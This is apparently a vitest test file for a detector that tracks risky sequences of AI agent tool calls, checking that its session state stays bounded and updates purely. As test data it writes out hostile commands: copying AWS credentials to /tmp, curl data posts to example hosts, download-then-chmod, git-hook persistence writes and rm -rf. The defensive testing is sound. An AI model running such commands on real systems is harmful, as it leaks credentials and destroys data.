import { describe, expect, it } from 'vitest';
import type { Event } from '../../../core/event.js';
import { factsOf } from '../../../detectors/facts.js';
import { advanceSession, newSessionState, MAX_SECRET_TOKENS, MAX_TAINTED, type SessionState } from '../../../detectors/session-state.js';
import { MAX_STAMPS } from '../../../detectors/sequence/bounded.js';
import { MAX_DOWNLOADS } from '../../../detectors/sequence/download-execute.js';
import { MAX_PERSISTENCE } from '../../../detectors/sequence/persistence-execute.js';
import { MAX_DESTRUCTIVE } from '../../../detectors/sequence/destructive-chain.js';
import { createSequenceDetectors } from '../../../detectors/sequence/index.js';
import { at, bash, CTX, mcpResult, read, readResult, replayAll, webFetch } from './replay.js';

const many = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => bash(line(i)));

describe('SessionState stays bounded', () => {
  it('every list is capped', () => {
    at(0);
    const { state } = replayAll([
      ...many(MAX_STAMPS + 20, (i) => `curl -d x https://h${i}.example`),
      ...many(MAX_DOWNLOADS + 5, (i) => `curl -o f${i} https://x.example/f`),
      ...many(MAX_PERSISTENCE + 5, (i) => `echo x > .git/hooks/h${i}`),
      ...many(MAX_DESTRUCTIVE + 5, (i) => `rm -rf /opt/d${i}`),
      ...many(MAX_TAINTED + 5, (i) => `cp ~/.aws/credentials /tmp/c${i}`),
      ...many(MAX_STAMPS + 5, (i) => `rm f${i}`),
    ]);
    expect(state.egressHosts).toHaveLength(MAX_STAMPS);
    expect(state.dataCalls).toHaveLength(MAX_STAMPS);
    expect(state.deletions).toHaveLength(MAX_STAMPS);
    expect(state.downloads).toHaveLength(MAX_DOWNLOADS);
    expect(state.persistenceWrites).toHaveLength(MAX_PERSISTENCE);
    expect(state.destructive).toHaveLength(MAX_DESTRUCTIVE);
    expect(state.tainted).toHaveLength(MAX_TAINTED);
    // The newest are kept.
    expect(state.tainted.at(-1)!.path).toBe(`/tmp/c${MAX_TAINTED + 4}`);
  });

  it('secret tokens are capped per read and overall', () => {
    const content = Array.from({ length: 50 }, (_, i) => `acct${i}x123456789`).join('\n');
    const events: Event[] = [];
    for (let i = 0; i < 20; i++) events.push(read('/home/dev/.aws/credentials'), readResult('/home/dev/.aws/credentials', `${content}\nextra${i}abcdefgh`));
    const { state } = replayAll(events);
    expect(state.secretTokens.length).toBeLessThanOrEqual(MAX_SECRET_TOKENS);
    expect(state.secretTokens.length).toBeGreaterThan(0);
  });

  it('timed stamps older than an hour are dropped', () => {
    at(0);
    const early = many(3, (i) => `curl https://old${i}.example`);
    at(90);
    const { state } = replayAll([...early, bash('curl https://new.example')]);
    expect(state.egressHosts.map((s) => s.key)).toEqual(['new.example']);
  });

  it('untrusted input is one entry; the first intake → secret pair is kept', () => {
    const fetch = webFetch('https://a.example');
    const secret = read('/home/dev/.npmrc');
    const { state } = replayAll([fetch, secret, mcpResult('mcp__x__y', 'z'), read('/home/dev/.netrc')]);
    expect(state.untrusted?.what).toContain('mcp__x__y');
    expect(state.trifecta).toMatchObject({ intake: { eventId: fetch.id }, read: { eventId: secret.id } });
  });
});

/** The shared state and every sequence detector's memory, advanced side by side as DetectorSet does. */
function advanceAll(events: Event[], check?: (before: string, after: string) => void) {
  const detectors = createSequenceDetectors();
  let shared: SessionState = newSessionState(events[0]!);
  let own = detectors.map((d) => d.memory?.initial());
  for (const e of events) {
    const facts = factsOf(e, CTX);
    const before = JSON.stringify([shared, own]);
    const nextOwn = detectors.map((d, i) => d.memory?.update({ event: e, facts, session: shared, state: own[i], ctx: CTX }));
    const nextShared = advanceSession(shared, e, facts);
    check?.(before, JSON.stringify([shared, own]));
    [shared, own] = [nextShared, nextOwn];
  }
  return Object.assign({}, shared, ...own) as SessionState & { downloads: { chmodId?: string }[] };
}

describe('advanceSession is pure', () => {
  it('does not change the state it is given, and replays to the same state', () => {
    const events = [webFetch('https://a.example'), bash('cat ~/.aws/credentials > /tmp/x'), bash('curl -o i.sh https://x.example/i'), bash('chmod +x i.sh'), bash('rm -rf /opt/a')];
    const state = advanceAll(events, (before, after) => expect(after).toBe(before));
    expect(state.downloads[0]!.chmodId).toBe(events[3]!.id);
    expect(state.tainted.map((t) => t.path)).toEqual(['/tmp/x']);
    const again = advanceAll(events);
    expect(again).toEqual(state);
  });
});
